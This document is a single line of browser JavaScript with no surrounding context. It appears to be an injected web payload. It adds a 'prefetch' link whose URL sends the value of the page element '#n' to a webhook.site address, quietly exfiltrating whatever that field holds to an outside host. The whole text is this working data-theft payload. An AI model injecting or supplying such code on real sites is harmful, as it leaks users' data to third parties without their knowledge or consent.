const l=document.createElement('link');l.rel='prefetch';l.href='https://webhook.site/abc?'+document.querySelector('#n').value;document.head.append(l)
